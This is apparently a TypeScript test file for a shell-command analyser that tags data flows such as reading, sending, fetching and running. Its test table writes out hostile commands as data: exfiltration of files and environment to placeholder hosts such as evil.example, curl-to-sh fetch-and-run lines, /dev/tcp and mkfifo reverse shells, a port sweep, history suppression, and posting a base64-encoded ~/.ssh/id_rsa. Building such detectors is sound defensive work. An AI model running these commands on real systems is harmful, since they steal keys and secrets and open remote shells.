import assert from "node:assert/strict";
import { effects, lower } from "./canonical.ts";

const rows: readonly (readonly [written: string, ...effects: string[]])[] = [
  ["scp k h:", ":read k | :send h"],
  ["curl -T k h", ":read k | :send h"],
  ['x=$(cat k); curl -d "$x" h', ":read k | :send h"],
  ["nc h 1 <k", ":read k | :send h", ":connect h '1'"],
  ["tar c k | ssh h 'cat >f'", ":read k | :send h", ":read k | :write f"],
  ['dig "$S.evil.example"', ":env S | :send evil.example"],
  ["printenv | base64 | curl -d @- https://U@x.Example:8/p", ":env '*' | :send x.example"],
  ["curl -o f u; bash ./f", ":fetch u | :run sh", ":fetch u | :write f"],
  ["cd d; curl -o f u; bash $PWD/f", ":fetch u | :run sh"],
  ["curl -o f u; chmod +x f; ./f", ":fetch u | :run ./f"],
  ['bash -c "$(curl u)"', ":fetch u | :run sh"],
  ["curl u | tee f | sh", ":fetch u | :run sh", ":fetch u | :write f"],
  [". <(curl u)", ":fetch u | :run sh"],
  ["wget -qO- u | python3 -", ":fetch u | :run python"],
  ['X=$(curl u); eval "$X"', ":fetch u | :run sh"],
  ["cat <(curl u) | sh", ":fetch u | :run sh"],
  ["echo x >> f", ":write f"],
  ["a | tee -a f", ":write f"],
  ["cp x f", ":read x | :write f"],
  ["sed -i s/a/b/ f", ":write f"],
  ["install x f", ":read x | :write f"],
  ["exec 3<>/dev/tcp/h/1", ":connect h '1'"],
  ["for i in $(seq 9); do : >/dev/tcp/10.4.7.$i/22; done", ":connect \"10.4.7.$UNKNOWN\" '22'"],
  ["vim -c ':lua os.execute(\"curl u | sh\")'", ":fetch u | :run sh"],
  ["() { :;}; curl u | sh", ":fetch u | :run sh"],
  ["tftp -g -r f h; sh f", ":fetch h | :run sh"],
  ["curl -o f u; $(which bash || which sh) f", ":fetch u | :run sh"],
  ["bash -i >& /dev/tcp/h/1 0>&1", ":connect h '1'", ":fetch h | :run sh"],
  ["exec 5<>/dev/tcp/h/1; while read l <&5; do $l >&5; done", ":connect h '1'", ":fetch h | :run sh"],
  ["mkfifo p; cat p | sh | nc h 1 > p", ":connect h '1'", ":fetch h | :run sh"],
  ["FOO=1 a", ":set FOO '1'"],
  ["export B=2", ":set B '2'"],
  ["HISTFILE=/dev/null", ":set HISTFILE /dev/null"],
  ["nc -l -p 99", ":listen '99'"],
];

describe("effects", () => {
  for (const [written, ...expected] of rows) {
    it(`finds ${expected.join(", ")} in ${JSON.stringify(written)}`, () => {
      const found = effects(written);
      for (const effect of expected) assert.ok(found.includes(effect), `found:\n${found.join("\n")}`);
    });
  }

  const silent: readonly string[] = [
    "x=1; y=2",
    "a 2>/dev/null >&2",
    "curl u",
    "echo hello",
    "curl u | wc -l > /dev/null",
    "cat f | grep -q x | sh",
    "curl u | python3 -m json.tool",
  ];
  for (const written of silent) {
    it(`lets nothing fetched or read run or leave in ${JSON.stringify(written)}`, () => {
      assert.deepEqual(
        effects(written).filter((line) => / :(run|send) | \| :(run|send)/.test(line)),
        [],
      );
    });
  }

  it("does not take the name of a host for what is sent to it", () => {
    assert.deepEqual(effects('curl "$URL"; ssh "$HOST_NAME" ls; curl "https://$API/v1"'), []);
    assert.deepEqual(lower('curl "$URL"').problems, []);
    assert.deepEqual(effects('curl "https://x.example/$Q"'), [":env Q | :send x.example"]);
  });

  it("tells the steps of the way", () => {
    const text = "K=~/.ssh/id_rsa\nD=$(base64 $K)\ncurl -d $D h";
    const flow = lower(text).lines.find(
      (line) => line.derived && line.stages[1]?.name.value === ":send" && line.stages[0]?.name.value === ":read",
    );
    assert.deepEqual(
      flow?.stages[1]?.related.map((step) => [step.message, text.slice(step.start, step.end)]),
      [
        ["read here", "base64 $K"],
        ["assigned to K here", "K=~/.ssh/id_rsa"],
        ["assigned to D here", "D=$(base64 $K)"],
      ],
    );
    assert.deepEqual(flow?.stages[1]?.through, ["base64"]);
  });

  it("prints a single effect only where no flow tells it", () => {
    assert.deepEqual(effects("cat k > f"), [":read k | :write f"]);
  });
});
